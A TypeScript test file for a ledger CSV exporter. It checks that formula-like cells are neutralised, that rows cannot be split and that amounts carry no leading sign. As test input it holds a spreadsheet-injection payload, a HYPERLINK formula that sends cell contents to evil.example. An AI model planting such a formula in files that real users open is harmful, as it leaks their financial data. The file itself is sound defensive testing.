import { ledgerCsv, type CsvEntry } from './ledger-csv.ts';

// The hole: a spreadsheet runs what begins like a formula. A cell that somebody could choose would then fetch the rest of
// the books from the machine of whoever opens the file (CWE-1236, ASVS 1.2.10).
const ENTRY: CsvEntry = {
  transactionId: '0d4ff0b4-7f3a-4f6f-8e0e-0f2a2d1f8c11',
  writtenAt: new Date('2030-05-31T11:30:00Z'),
  localDate: '2030-05-31',
  kind: 'CAPTURED',
  paymentId: null,
  account: 'asset:bank',
  currency: 'EUR',
  exponent: 2,
  amountMinor: 5n,
};
const cellsOf = (entry: Partial<CsvEntry>): string => ledgerCsv([{ ...ENTRY, ...entry }], { header: false });

it.each(['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'])(
  'a cell that begins with %j is text to every spreadsheet, whichever column it is in',
  (sign) => {
    const hostile = `${sign}HYPERLINK("https://evil.example?"&A1)`;
    for (const column of [
      'kind',
      'account',
      'currency',
      'localDate',
      'transactionId',
      'paymentId',
    ] as const) {
      const line = cellsOf({ [column]: hostile });
      expect(line).toContain(`"'${sign}HYPERLINK(""https`);
    }
  },
);

it('a cell cannot end its row or its column', () => {
  const line = cellsOf({ kind: 'A,"B"\r\nC' });
  expect(line.split(',', 3).length).toBe(3);
  expect(line).toContain('"A,""B""\r\nC"');
});

it('no amount begins with a sign: debits and credits have a column each', () => {
  expect(cellsOf({ amountMinor: 5n })).toMatch(/,EUR,0\.05,\r\n$/);
  expect(cellsOf({ amountMinor: -123_456n })).toMatch(/,EUR,,1234\.56\r\n$/);
  expect(cellsOf({ amountMinor: -500n, currency: 'JPY', exponent: 0 })).toMatch(/,JPY,,500\r\n$/);
});
